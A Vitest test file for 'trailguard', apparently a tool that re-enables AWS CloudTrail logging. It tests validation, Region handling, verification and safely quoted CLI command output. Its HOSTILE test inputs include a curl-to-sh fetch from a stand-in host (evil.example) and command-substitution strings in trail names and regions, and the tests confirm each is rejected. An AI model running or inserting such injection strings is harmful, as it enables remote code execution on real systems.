import { CloudTrailClient, GetTrailStatusCommand, StartLoggingCommand } from '@aws-sdk/client-cloudtrail';
import { mockClient } from 'aws-sdk-client-mock';
import * as v from 'valibot';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { planOf, stepOf, type AnyActionType, type SelfSignature, type Step } from '../../../shared/actions/action.js';
import { startLogging, startLoggingSignature, type StartLoggingParams, type StartLoggingPrevious } from '../../../shared/actions/cloudtrail-start-logging.js';
import { reversalOf, reversalLines } from '../../../shared/actions/reversal.js';
import { AwsCallError } from '../../../shared/errors.js';
import { sampleConfig } from '../../helpers/samples.js';
import { DONE_ACTIONS, record, TRAIL } from '../../helpers/records.js';

const cloudTrail = mockClient(CloudTrailClient);
const ARN = 'arn:aws:cloudtrail:us-east-1:111122223333:trail/example-audit-trail';
const RESOURCE = { type: 'AWS::CloudTrail::Trail', id: ARN, name: 'example-audit-trail', region: 'us-east-1' };
// The names: any principal can make a denied call naming a trail like this.
const HOSTILE = ['x;curl${IFS}-s${IFS}evil.example|sh;#', 'arn:aws:cloudtrail:us-east-1:111122223333:trail/$(touch${IFS}pwned)', "it's-a-trail", ''];

/** A client per Region, as the rule builds them: the mock answers every one. */
const clients = { cloudTrailIn: (region: string) => new CloudTrailClient({ region, credentials: { accessKeyId: 'a', secretAccessKey: 'b' } }) };
// As the runner, reversal and the loop guard see them: through the interfaces, whatever the literal's own narrower type.
const asType: AnyActionType = startLogging;
const asSignature: SelfSignature = startLoggingSignature;
const regionsOf = (command: typeof StartLoggingCommand | typeof GetTrailStatusCommand) =>
  Promise.all(cloudTrail.commandCalls(command).map((call) => (call.thisValue as CloudTrailClient).config.region()));

/** A validated step, acting in `region` unless the resource names its home Region. */
const stepFor = (params: unknown, region = 'eu-west-1', resource: typeof RESOURCE | Omit<typeof RESOURCE, 'region'> = RESOURCE) =>
  stepOf(startLogging, { api: startLogging.api, resource, params, previous: { IsLogging: false } }, region) as Step<StartLoggingParams, StartLoggingPrevious>;

beforeEach(() => {
  cloudTrail.reset();
  cloudTrail.rejects(new Error('unexpected CloudTrail call'));
});
afterEach(() => cloudTrail.reset());

describe('CloudTrail.StartLogging params', () => {
  it.each([ARN, 'example-audit-trail', 'arn:aws-us-gov:cloudtrail:us-gov-west-1:111122223333:trail/gov-trail'])('takes the trail name or ARN %s', (name) => {
    expect(stepFor({ Name: name }).params).toEqual({ Name: name });
  });

  it.each(HOSTILE)('refuses the hostile name %j before any call, as invalid', (name) => {
    expect(() => stepFor({ Name: name })).toThrow(AwsCallError);
    expect(() => stepFor({ Name: name })).toThrow(expect.objectContaining({ kind: 'invalid', code: 'InvalidActionParams' }));
    expect(cloudTrail.calls()).toHaveLength(0);
  });

  it('refuses params that are not what StartLogging takes from trailguard (an extra field, no name)', () => {
    expect(v.safeParse(startLogging.params, { Name: ARN, Extra: 1 }).success).toBe(false);
    expect(v.safeParse(startLogging.params, {}).success).toBe(false);
  });

  it('treats a previous state other than "not logging" as not read', () => {
    expect(stepOf(startLogging, { ...planOf(startLogging, RESOURCE, { Name: ARN }), previous: { IsLogging: true } }, 'us-east-1').previous).toBeUndefined();
    expect(stepOf(startLogging, planOf(startLogging, RESOURCE, { Name: ARN }, { IsLogging: false }), 'us-east-1').previous).toEqual({ IsLogging: false });
  });
});

describe('CloudTrail.StartLogging perform and verify', () => {
  it("starts the trail in its home Region (the resource's), not the event's, and reads IsLogging back there", async () => {
    cloudTrail.on(StartLoggingCommand).resolves({});
    cloudTrail.on(GetTrailStatusCommand).resolves({ IsLogging: true });
    const step = stepFor({ Name: ARN }, 'eu-west-1');

    await startLogging.perform(step, clients);
    const verification = await startLogging.verify(step, clients);

    expect(cloudTrail.commandCalls(StartLoggingCommand).map((c) => c.args[0].input)).toEqual([{ Name: ARN }]);
    expect(await regionsOf(StartLoggingCommand)).toEqual(['us-east-1']);
    expect(cloudTrail.commandCalls(GetTrailStatusCommand).map((c) => c.args[0].input)).toEqual([{ Name: ARN }]);
    expect(await regionsOf(GetTrailStatusCommand)).toEqual(['us-east-1']);
    expect(verification).toEqual({ ok: true, detail: 'GetTrailStatus reads IsLogging: true' });
  });

  it("acts in the record's Region when the resource names none", async () => {
    cloudTrail.on(StartLoggingCommand).resolves({});
    const { region: _home, ...nowhere } = RESOURCE;

    await startLogging.perform(stepFor({ Name: 'example-audit-trail' }, 'ap-southeast-2', nowhere), clients);

    expect(await regionsOf(StartLoggingCommand)).toEqual(['ap-southeast-2']);
  });

  it('does not verify a trail that still reads as stopped', async () => {
    cloudTrail.on(GetTrailStatusCommand).resolves({ IsLogging: false });
    expect(await startLogging.verify(stepFor({ Name: ARN }), clients)).toEqual({ ok: false, detail: 'GetTrailStatus still reads IsLogging: false' });
  });

  it('classifies a denied read-back, naming the API', async () => {
    cloudTrail.on(GetTrailStatusCommand).rejects(Object.assign(new Error('no'), { name: 'AccessDeniedException', $metadata: { httpStatusCode: 400 } }));
    await expect(startLogging.verify(stepFor({ Name: ARN }), clients)).rejects.toMatchObject({ kind: 'denied', api: 'CloudTrail.GetTrailStatus' });
  });
});

describe('CloudTrail.StartLogging reverse, command, signature', () => {
  it('is never undone, and says why', () => {
    expect(asType.reverse(stepFor({ Name: ARN }))).toEqual({
      kind: 'none',
      why: 'StartLogging is never undone: a stopped trail blinds every rule and the audit record. Stop it yourself (aws cloudtrail stop-logging) only if you really must',
    });
    const started = record({ rule: 'trail-logging', resources: [TRAIL], actions: [DONE_ACTIONS.startLogging] });
    expect(reversalOf([startLogging], started, started.actions[0]!)).toMatchObject({
      kind: 'none',
      why: expect.stringContaining('StartLogging is never undone'),
    });
    expect(reversalLines([startLogging], started)).toEqual([]);
  });

  it("gives a complete command in the trail's home Region, every value quoted", () => {
    expect(startLogging.command(stepFor({ Name: ARN }))).toBe(`aws cloudtrail start-logging --region 'us-east-1' --name '${ARN}'`);
  });

  it.each(HOSTILE)('gives no command for the hostile name %j even when handed a step that skipped validation', (name) => {
    const command = startLogging.command({ api: startLogging.api, resource: RESOURCE, params: { Name: name }, previous: undefined, region: 'us-east-1' });
    expect(command).toMatch(/^no command: the (trail name in the event is not a valid trail name|event names no trail name)$/);
  });

  it('gives no command for a Region that is not a region code', () => {
    const command = startLogging.command({
      api: startLogging.api,
      resource: RESOURCE,
      params: { Name: ARN },
      previous: undefined,
      region: "us-east-1';touch pwned;'",
    });
    expect(command).toBe('no command: the region in the event is not a valid region');
  });

  it('says what it does, needs cloudtrail:StartLogging, and does not retrigger a rule', () => {
    expect(startLogging.describe(stepFor({ Name: ARN }))).toBe(`start logging on trail ${ARN}`);
    expect(startLogging).toMatchObject({ api: 'CloudTrail.StartLogging', iam: 'cloudtrail:StartLogging', clients: ['cloudTrailIn'], retriggers: false });
  });

  it("signs every StartLogging of trailguard's roles as its own: a restart only records more", () => {
    const caller = { enforces: false, config: sampleConfig() };
    expect(startLoggingSignature).toMatchObject({ api: 'CloudTrail.StartLogging', eventName: 'StartLogging' });
    expect(asSignature.isOwnWrite({ name: ARN }, caller)).toBe(true);
    expect(asSignature.isOwnWrite({ name: 'anything at all', kmsKeyId: '' }, caller)).toBe(true);
    expect(startLogging.signature).toBe(startLoggingSignature);
    expect(startLogging.api).toBe(startLoggingSignature.api); // a literal in the action, for tree-shaking
  });
});
